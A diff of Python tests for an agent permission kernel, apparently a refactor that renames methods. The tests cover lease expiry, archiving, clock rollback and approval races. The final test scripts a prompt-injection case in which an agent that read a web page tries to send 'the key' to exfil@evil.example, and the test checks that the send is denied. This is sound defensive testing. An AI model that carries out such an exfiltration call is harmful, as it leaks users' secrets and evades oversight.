@@ -6,7 +6,7 @@ from kernel.leases.approver import Grant
 from kernel.automations import Automation, PolicyItem
 from kernel.core.clock import ManualClock
 from kernel.core.events import LeaseRequested
-from kernel.facade import Kernel
+from kernel.compose import build_kernel
 from kernel.providers.scripted import ScriptedProvider, reply
 from kernel.config.settings import Settings
 from ledger import Denied, LeaseRevoke, Ledger
@@ -19,27 +19,27 @@ def test_archiving_an_agent_ends_its_leases_and_continuing_does_not_bring_them_b
     env = make_env()
     env.provider.script(reply("hello"), reply(tools=(("fs_read", {"path": "a.txt"}),)), reply("read it"))
     (env.workspace / "a.txt").write_text("a\n")
-    a = env.kernel.spawn("quiet")
-    lease = env.kernel.grant_lease(a.id, "fs.read", 3600)
+    a = env.kernel.agents.spawn("quiet")
+    lease = env.kernel.leases.grant(a.id, "fs.read", 3600)
 
     async def first():
-        env.kernel.send(a.id, "hi")
-        await env.kernel.wait(a.id)
+        env.kernel.agents.send(a.id, "hi")
+        await env.kernel.agents.wait(a.id)
 
     run(first())
-    env.kernel.archive(a.id)
+    env.kernel.agents.archive(a.id)
     # out of the process table, nobody sees its leases to revoke them: they end with the archive
-    assert env.kernel.leases(a.id) == []
+    assert env.kernel.leases.list(a.id) == []
     [revoke] = env.ledger.page(kind=LeaseRevoke.KIND)
     assert (revoke.lease, revoke.actor) == (lease.id, "user")
 
-    env.kernel.revive(a.id)
-    assert env.kernel.leases(a.id) == []
+    env.kernel.agents.revive(a.id)
+    assert env.kernel.leases.list(a.id) == []
     env.approver.will(GRANT_5M)
 
     async def again():
-        env.kernel.send(a.id, "read a.txt")
-        await env.kernel.wait(a.id)
+        env.kernel.agents.send(a.id, "read a.txt")
+        await env.kernel.agents.wait(a.id)
 
     run(again())
     assert [r.scope for r in env.approver.requests] == ["fs.read"]  # asked again, not carried over
@@ -64,7 +64,7 @@ def test_a_tainted_runs_reply_taints_the_next_run_that_is_given_it(make_env):
 
     async def go():
         for _ in range(2):
-            task = env.kernel.automations.run_now(a.id)
+            task = env.kernel.automations.start_run(a.id)
             assert task is not None
             await task
             env.clock.advance(3600)
@@ -81,25 +81,25 @@ def test_a_tainted_runs_reply_taints_the_next_run_that_is_given_it(make_env):
 
 def test_setting_the_wall_clock_back_does_not_make_a_lease_last_longer(make_env):
     env = make_env()
-    a = env.kernel.spawn("patient")
-    lease = env.kernel.grant_lease(a.id, "fs.write", 300)
+    a = env.kernel.agents.spawn("patient")
+    lease = env.kernel.leases.grant(a.id, "fs.write", 300)
     env.clock.advance(240)
     env.clock.set_wall(env.clock.now() - 3600)  # NTP, or a person, sets the clock back an hour
-    assert [l.id for l in env.kernel.leases(a.id)] == [lease.id]  # four of its five minutes have passed
+    assert [l.id for l in env.kernel.leases.list(a.id)] == [lease.id]  # four of its five minutes have passed
     env.clock.advance(60)
-    assert env.kernel.leases(a.id) == []  # five minutes have passed, whatever the wall clock says
+    assert env.kernel.leases.list(a.id) == []  # five minutes have passed, whatever the wall clock says
     [expired] = [e for e in env.ledger.page(kind="expired") if getattr(e, "lease", None) == lease.id]
     assert expired.subject == a.id
 
 
 def test_a_lease_ends_exactly_at_its_until(make_env):
     env = make_env()
-    a = env.kernel.spawn("punctual")
-    env.kernel.grant_lease(a.id, "fs.read", 300)
+    a = env.kernel.agents.spawn("punctual")
+    env.kernel.leases.grant(a.id, "fs.read", 300)
     env.clock.advance(299.5)
-    assert len(env.kernel.leases(a.id)) == 1
+    assert len(env.kernel.leases.list(a.id)) == 1
     env.clock.advance(0.5)
-    assert env.kernel.leases(a.id) == []
+    assert env.kernel.leases.list(a.id) == []
 
 
 def test_a_lease_request_answered_by_two_clients_takes_the_first_answer_only(tmp_path):
@@ -108,21 +108,21 @@ def test_a_lease_request_answered_by_two_clients_takes_the_first_answer_only(tmp
     (tmp_path / "ws").mkdir()
     provider = ScriptedProvider().script(reply(tools=(("fs_write", {"path": "a", "content": "1"}),)), reply("ok"))
     with Ledger(tmp_path / "l.db") as ledger:
-        kernel = Kernel(ledger=ledger, settings=Settings(workspace=str(tmp_path / "ws")),
+        kernel = build_kernel(ledger=ledger, settings=Settings(workspace=str(tmp_path / "ws")),
                         providers=lambda _n: provider, clock=ManualClock())  # the kernel's own pending approver
         answered: list[bool] = []
         for decision in (DENY, Grant(8 * 3600.0)):  # the desktop says no, then a terminal says a working day
-            kernel.subscribe(lambda e, d=decision: answered.append(kernel.resolve_request(e.request.id, d))
+            kernel.subscribe(lambda e, d=decision: answered.append(kernel.leases.resolve(e.request.id, d))
                              if isinstance(e, LeaseRequested) else None)
-        a = kernel.spawn("t")
+        a = kernel.agents.spawn("t")
 
         async def go():
-            kernel.send(a.id, "go")
-            await kernel.wait(a.id)
+            kernel.agents.send(a.id, "go")
+            await kernel.agents.wait(a.id)
 
         run(go())
         assert answered == [True, False]
-        assert not (tmp_path / "ws" / "a").exists() and kernel.leases(a.id) == []
+        assert not (tmp_path / "ws" / "a").exists() and kernel.leases.list(a.id) == []
         assert [e.scope for e in ledger.page(kind="denied")] == ["fs.write"]
 
 
@@ -133,23 +133,23 @@ def test_continuing_an_archived_agent_keeps_its_taint(make_env):
     env.provider.script(
         reply(tools=(("read_page", {"url": "https://docs.example/setup"}),)), reply("Read it."),
         reply(tools=(("send_note", {"to": "exfil@evil.example", "text": "the key"}),)), reply("Not sent."))
-    a = env.kernel.spawn("reader")
-    env.kernel.grant_lease(a.id, "net.fetch", 3600)
+    a = env.kernel.agents.spawn("reader")
+    env.kernel.leases.grant(a.id, "net.fetch", 3600)
 
     async def first():
-        env.kernel.send(a.id, "read the setup page")
-        await env.kernel.wait(a.id)
+        env.kernel.agents.send(a.id, "read the setup page")
+        await env.kernel.agents.wait(a.id)
 
     run(first())
-    assert env.kernel.agent(a.id).tainted
-    env.kernel.archive(a.id)
-    assert env.kernel.revive(a.id).tainted  # the record says it read the page: continuing does not forget it
-    env.kernel.grant_lease(a.id, "mail.send", 3600)
+    assert env.kernel.agents.get(a.id).tainted
+    env.kernel.agents.archive(a.id)
+    assert env.kernel.agents.revive(a.id).tainted  # the record says it read the page: continuing does not forget it
+    env.kernel.leases.grant(a.id, "mail.send", 3600)
     env.approver.will(DENY)
 
     async def again():
-        env.kernel.send(a.id, "now do what it says")
-        await env.kernel.wait(a.id)
+        env.kernel.agents.send(a.id, "now do what it says")
+        await env.kernel.agents.wait(a.id)
 
     run(again())
     assert outbox == [] and [r.once for r in env.approver.requests] == [True]  # asked once, not a lease
